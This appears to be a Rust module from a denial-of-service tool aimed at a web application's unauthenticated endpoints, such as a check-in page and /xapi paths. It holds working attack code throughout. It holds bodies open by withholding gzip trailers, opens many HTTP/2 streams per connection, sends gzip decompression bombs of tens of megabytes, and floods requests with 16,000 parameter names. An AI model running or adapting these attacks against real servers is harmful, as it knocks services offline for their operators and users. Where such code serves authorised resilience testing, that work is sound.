//! Bodies and queries that are small on the wire, without a key.

use std::fmt::Write as _;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::compressed::gzip;
use super::course;
use super::request::Request;
use super::target::{Target, Volley};

const FORM: &str = "application/x-www-form-urlencoded";
/// Just within the limit of a body.
const LARGE: usize = 63 << 20;
/// The trailer of a gzip member and a little more.
const WITHHELD: usize = 10;
const STREAMS: usize = 30;
/// What a connection of HTTP/2 may send at first, in bytes.
const WINDOW: usize = 65_535;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;

/// Bodies on connections of their own, to the page on which people check themselves in.
pub(super) async fn held(target: Target) -> Result<Volley> {
    course::load(&target).await?;
    let request = Request::new("POST", course::CHECK_IN).gzip(FORM, &[(b"a", LARGE)])?;
    Ok(target.hold(40, request.unfinished(WITHHELD)))
}

/// Bodies in streams of one connection.
pub(super) async fn held_http2(target: Target) -> Result<Volley> {
    course::load(&target).await?;
    let mut body = gzip(&[(b"a", LARGE)])?;
    body.truncate(body.len() - WITHHELD);
    Ok(Box::pin(async move {
        loop {
            // Where HTTP/2 is not spoken, the connection is cut.
            if streams(&target, &body).await.is_err() {
                target.count(None);
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }))
}

/// Begins all streams, and waits for the first byte that tells more of the server than its settings; an error where the
/// connection is cut.
async fn streams(target: &Target, body: &[u8]) -> Result<()> {
    target.begin();
    let mut stream = TcpStream::connect(target.address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let head = [
        field(":method", "POST"),
        field(":scheme", "http"),
        field(":authority", "attack"),
        field(":path", course::CHECK_IN),
        field("content-type", FORM),
        field("content-encoding", "gzip"),
    ]
    .concat();
    // As much as all streams of a connection may send before the server says more.
    let part = body.get(..WINDOW / STREAMS).unwrap_or(body);
    for number in 0..u32::try_from(STREAMS)? {
        let id = 2 * number + 1;
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &head)).await?;
        stream.write_all(&frame(DATA, 0, id, part)).await?;
    }
    loop {
        let mut begin = [0; 9];
        stream.read_exact(&mut begin).await?;
        let [a, b, c, kind, ..] = begin;
        let mut rest = vec![0; usize::try_from(u32::from_be_bytes([0, a, b, c]))?];
        stream.read_exact(&mut rest).await?;
        if kind == HEADERS {
            return Ok(());
        }
    }
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
#[expect(clippy::expect_used, reason = "frames here have a few kilobytes")]
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] =
        u32::try_from(payload.len()).expect("a frame of a few kilobytes").to_be_bytes();
    let mut frame = vec![a, b, c, kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A header field with a literal name and value of less than 127 bytes each, not indexed (RFC 7541, 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[text.len().to_le_bytes()[0]], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// An alternate request whose form is nothing but names.
pub(super) fn form(target: &Target) -> Result<Volley> {
    let request = Request::new("POST", "/xapi/statements?method=GET");
    Ok(target.repeat(2, request.gzip(FORM, &[(b"a&", 31_000_000)])?.bytes()))
}

/// As many names as an address may have, in the query and in the form of an alternate request.
pub(super) fn names(target: &Target) -> Volley {
    const LETTERS: &[u8; 36] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let letters = || LETTERS.iter().copied().map(char::from);
    let all =
        letters().flat_map(|a| letters().flat_map(move |b| letters().map(move |c| (a, b, c))));
    let mut query = String::new();
    for (a, b, c) in all.take(16_000) {
        let _ = write!(query, "{a}{b}{c}&");
    }
    let in_query = Request::new("GET", &format!("/xapi/about?{query}")).bytes();
    let in_form = Request::new("POST", "/xapi/about?method=GET").body(FORM, query).bytes();
    target.repeat_all(
        4,
        move |number| {
            if number.is_multiple_of(2) { in_query.clone() } else { in_form.clone() }
        },
    )
}
